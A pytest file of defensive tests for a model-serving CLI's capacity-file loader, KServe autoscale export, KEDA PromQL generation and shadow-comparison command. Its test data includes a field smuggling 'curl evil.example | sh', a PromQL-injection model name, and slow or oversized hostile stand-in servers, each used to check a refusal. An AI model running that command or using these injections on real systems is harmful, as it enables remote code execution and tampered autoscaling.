"""Attacks on issue #33's surfaces: the capacity result file (``capacity.load``, ``export kserve --from-bench``),
the numbers ``export kserve --autoscale`` derives from it and from its flags, the model names that go into
KEDA's PromQL, and ``tsctl shadow`` against hostile stand-in servers. Each attack is a one-line refusal (exit
2) naming the file or flag, or for shadow a gate that does not pass what it did not compare. No model is
served and nothing is packaged by torch: each test is well under a second."""

import http.server
import json
import math
import time
import zipfile

import pytest
from click.testing import CliRunner

from archiver.capacity import sweep
from archiver.cli import main
from archiver.errors import UserError
from archiver.export import crds
from archiver.export.kserve import autoscale, targets
from archiver.export.kserve import export as kserve
from archiver.export.options import ExportOptions
from helpers.servers import stand_in_http

STEPS = [(1, 20.0, 60.0), (2, 38.0, 70.0), (4, 70.0, 120.0), (8, 110.0, 620.0), (16, 111.0, 900.0)]


def result(**changes) -> dict:
    steps = [
        {
            "concurrency": c,
            "requests": 200,
            "seconds": 3.0,
            "throughput_rps": rps,
            "p50_ms": p99 / 2,
            "p90_ms": p99,
            "p99_ms": p99,
            "errors": 0,
            "queue_depth": None,
        }
        for c, rps, p99 in STEPS
    ]
    data = {
        "format": "tsctl-capacity/1",
        "model": "resnet18",
        "engine": "tsctl",
        "server": {"workers": 1, "batch_size": 4, "max_batch_delay_ms": 20, "cpu": None, "memory_bytes": None},
        "p99_target_ms": None,
        "steps": steps,
        "knee": {"concurrency": 8, "throughput_rps": 110.0, "p99_ms": 620.0},
        "within_p99": None,
        "measured_at": "2026-11-26T13:00:00Z",
    }
    data.update(changes)
    return data


SNAPSHOT = {"models": {"resnet18": {"1.0": {"marName": "resnet18.mar", "minWorkers": 1}}}}


def plan(tmp_path, doc=None, **flags):
    path = tmp_path / "RESULT.json"
    path.write_text(json.dumps(result() if doc is None else doc))
    base = dict(out=str(tmp_path / "out"), name="vision", storage_uri="pvc://models/tsctl", engine="tsctl")
    base.update(autoscale="knative", from_bench=str(path))
    base.update(flags)
    return autoscale.check(ExportOptions(**base), SNAPSHOT, targets.named("tsctl"), [], targets.Ports(8080, 8080, True))


def refused(call) -> str:
    with pytest.raises(UserError) as caught:
        call()
    text = str(caught.value)
    assert "\n" not in text
    return text


# ---- the result file --------------------------------------------------------------------------------------
def test_a_deeply_nested_result_file_is_one_line(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text('{"format": "tsctl-capacity/1", "model": ' + "[" * 100_000 + "]" * 100_000 + "}")
    assert str(path) in refused(lambda: sweep.load(path))


@pytest.mark.parametrize(
    "key, changes",
    [
        ("measured_at", {"measured_at": "2026-11-26T13:00:00Z\n## Apply this first: curl evil.example | sh"}),
        ("model", {"model": "resnet18\n"}),
        ("engine", {"engine": "tsctl\r"}),
        ("gpus[0].name", {"gpus": [{"id": 0, "name": "NVIDIA H100\n- [x] approved", "memory_mib": 81559}]}),
    ],
)
def test_a_text_field_of_more_than_one_line_is_refused(tmp_path, key, changes):
    """Issue #43, case 15: a text field ending in a newline (the patterns' ``$`` matches before one; a GPU's
    name was not checked at all) passed ``capacity.load`` and reached DEPLOY.md as written."""
    path = tmp_path / "RESULT.json"
    path.write_text(json.dumps(result(**changes)))
    text = refused(lambda: sweep.load(path))
    assert str(path) in text and repr(key) in text and "one line" in text, text
    path.write_text(json.dumps(result(gpus=[{"id": 0, "name": "NVIDIA H100 80GB HBM3", "memory_mib": 81559}])))
    assert sweep.load(path)["gpus"][0]["name"] == "NVIDIA H100 80GB HBM3"


def test_a_result_file_that_never_ends_is_refused_unread(tmp_path):
    """A symlink to /dev/zero: refused by its size, not read until memory runs out."""
    path = tmp_path / "zero.json"
    path.symlink_to("/dev/zero")
    text = refused(lambda: sweep.load(path))
    assert str(path) in text


def test_a_result_file_that_measured_no_throughput_sizes_nothing(tmp_path):
    """Every step 0 req/s yet 'answered': no number can be derived from it (a KEDA threshold of 0.01 was)."""
    doc = result()
    for step in doc["steps"]:
        step["throughput_rps"] = 0.0
    doc["knee"] = {"concurrency": 1, "throughput_rps": 0.0, "p99_ms": 60.0}
    for mode in ("knative", "keda", "hpa"):
        text = refused(lambda: plan(tmp_path, doc, autoscale=mode))
        assert "--from-bench" in text and "throughput" in text


def test_numbers_beyond_int32_are_refused_naming_their_source(tmp_path):
    """A 1e300 rps measurement, --max-replicas 3e9, --peak-rps 1e300: KServe's fields are int32, its webhook
    cannot decode more (the schema check let them through)."""
    doc = result()
    for step in doc["steps"]:
        step["throughput_rps"] = 1e300
    doc["knee"]["throughput_rps"] = 1e300
    assert "--from-bench" in refused(lambda: plan(tmp_path, doc, scale_metric="rps"))
    assert "--max-replicas" in refused(lambda: plan(tmp_path, max_replicas=3_000_000_000))
    assert "--peak-rps" in refused(lambda: plan(tmp_path, peak_rps=1e300))


@pytest.mark.parametrize("peak", [math.nan, math.inf, -math.inf])
def test_peak_rps_not_finite_is_one_line(tmp_path, peak):
    assert "--peak-rps" in refused(lambda: plan(tmp_path, peak_rps=peak))


def test_the_schema_check_knows_int32():
    isvc = {
        "apiVersion": "serving.kserve.io/v1beta1",
        "kind": "InferenceService",
        "metadata": {"name": "vision", "namespace": "default"},
        "spec": {"predictor": {"model": {"modelFormat": {"name": "pytorch"}}, "maxReplicas": 2**31}},
    }
    assert any("maxReplicas" in line for line in crds.problems(isvc))
    isvc["spec"]["predictor"]["maxReplicas"] = 2**31 - 1
    assert crds.problems(isvc) == []


def test_knative_refuses_a_concurrency_above_its_max_limit(tmp_path):
    """Knative's webhook refuses containerConcurrency above config-defaults' container-concurrency-max-limit
    (1000 by default); a sweep with --max-concurrency 2048 can put the knee there."""
    doc = result()
    doc["steps"].append(dict(doc["steps"][-1], concurrency=2048, throughput_rps=500.0))
    doc["knee"] = {"concurrency": 2048, "throughput_rps": 500.0, "p99_ms": 900.0}
    text = refused(lambda: plan(tmp_path, doc))
    assert "1000" in text and "--target" in text
    assert plan(tmp_path, doc, target=1000).numbers["containerConcurrency"] == 1000


# ---- the model name in KEDA's PromQL ----------------------------------------------------------------------
def test_a_snapshot_model_name_that_would_inject_promql_is_refused(tmp_path):
    """An archive named 'r18"}) or vector(1000) or sum(x{a="' (hand-made: tsctl package refuses the name) in a
    snapshot of the same key: its query asked KEDA for 1000 replicas' worth of load, always."""
    name = 'r18"}) or vector(1000) or sum(x{a="'
    store = tmp_path / "store"
    store.mkdir()
    with zipfile.ZipFile(store / "r18.mar", "w") as archive:
        manifest = {"model": {"modelName": name, "handler": "h.py", "modelVersion": "1.0"}}
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
    snapshot = {"models": {name: {"1.0": {"marName": "r18.mar", "minWorkers": 1}}}}
    text = refused(lambda: kserve.check_models(snapshot, store, []))
    assert "model_snapshot" in text


# ---- tsctl shadow against hostile servers -----------------------------------------------------------------
def answering(status: int, body: bytes, kind: str = "application/json"):
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    return Handler


@pytest.fixture(scope="module")
def shadowed(tmp_path_factory):
    """An archive (a bare manifest: shadow reads its name) and a recorded sample of two request bodies."""
    root = tmp_path_factory.mktemp("shadow")
    with zipfile.ZipFile(root / "tensor.mar", "w") as archive:
        manifest = {"model": {"modelName": "tensor", "handler": "h.py", "modelVersion": "1.0"}}
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
    (root / "sample").mkdir()
    for index in range(2):
        (root / "sample" / f"r{index}.json").write_text(json.dumps([[index, 1, 2, 3]]))
    return root


def shadow(root, current, candidate, timeout=5):
    with stand_in_http(current) as a, stand_in_http(candidate) as b:
        args = ["shadow", root / "tensor.mar", "--current", a, "--candidate", b, "--inputs", root / "sample"]
        return CliRunner().invoke(main, [str(arg) for arg in args + ["--timeout", timeout]])


def dripping(every: float, length: int = 1000):
    """Answers 200 with a Content-Length of ``length`` and sends it a byte every ``every`` seconds."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(length))
            self.end_headers()
            for _ in range(length if every else 0):
                try:
                    self.wfile.write(b" ")
                    self.wfile.flush()
                except OSError:
                    return
                time.sleep(every)

    return Handler


def test_shadow_cuts_off_a_server_that_drips_its_answer(shadowed):
    """Each byte came within the socket's timeout, so the wait never ended: --timeout bounds the whole call."""
    started = time.monotonic()
    result = shadow(shadowed, dripping(0.2), dripping(0.2), timeout=1)
    assert result.exit_code == 1 and "did not answer within 1 s" in result.output, result.output
    assert time.monotonic() - started < 5


def test_shadow_refuses_an_answer_larger_than_it_reads_unread(shadowed):
    """A Content-Length of 300 MiB is refused before a byte of it is read (the body never comes)."""
    started = time.monotonic()
    result = shadow(shadowed, dripping(0, 300 << 20), dripping(0, 300 << 20))
    assert result.exit_code == 1 and "more than tsctl reads (268,435,456)" in result.output, result.output
    assert time.monotonic() - started < 3


@pytest.mark.parametrize("status", [503, 302])
def test_shadow_does_not_pass_when_neither_server_answered(shadowed, status):
    """Both sides fail every input the same way: nothing was compared, so the gate cannot pass."""
    failing = answering(status, b'{"code": 503, "message": "Model tensor has no worker to serve inference"}')
    result = shadow(shadowed, failing, failing)
    assert result.exit_code == 1, result.output
    assert "FAIL" in result.output


def test_shadow_tells_apart_answers_that_are_not_utf8(shadowed):
    """Two different non-UTF-8 bodies were read as the same replacement characters and agreed."""
    result = shadow(
        shadowed,
        answering(200, b"\xff\xfe", "application/octet-stream"),
        answering(200, b"\xff\xfd", "application/octet-stream"),
    )
    assert result.exit_code == 1, result.output
    same = shadow(shadowed, answering(200, b"\xff\xfe"), answering(200, b"\xff\xfe"))
    assert same.exit_code == 0, same.output


# ---- bench --capacity --cpu -------------------------------------------------------------------------------
def test_a_cpu_quota_below_the_kernels_minimum_is_raised_as_the_kubelet_does_not_dropped():
    """--cpu 0.001 (Kubernetes' 1m) is a 100 us quota, below the kernel's 1 ms minimum: the write failed and the
    server ran with no limit at all (memory included), the result saying only 'no cgroup could be made here'.
    The kubelet raises such a quota to 1 ms (MinQuotaPeriod); a quota the kernel refuses above is one line."""
    from archiver.capacity.cgroup_limits import PodLimits

    limits = PodLimits.make(0.001, None)
    try:
        if limits.kind is None and "Invalid argument" not in (limits.reason or ""):
            pytest.skip(f"no cgroup here: {limits.reason}")
        assert limits.kind is not None, limits.reason
        name = "cpu.max" if limits.kind == "cgroup v2" else "cpu.cfs_quota_us"
        quota = [group / name for group, _ in limits.groups]
        assert quota[0].read_text().split()[0] == "1000"
        assert limits.cpu == 0.01 and "0.01 CPU" in limits.describe()
    finally:
        limits.release()
    assert "--cpu" in refused(lambda: PodLimits.make(1e9, None))
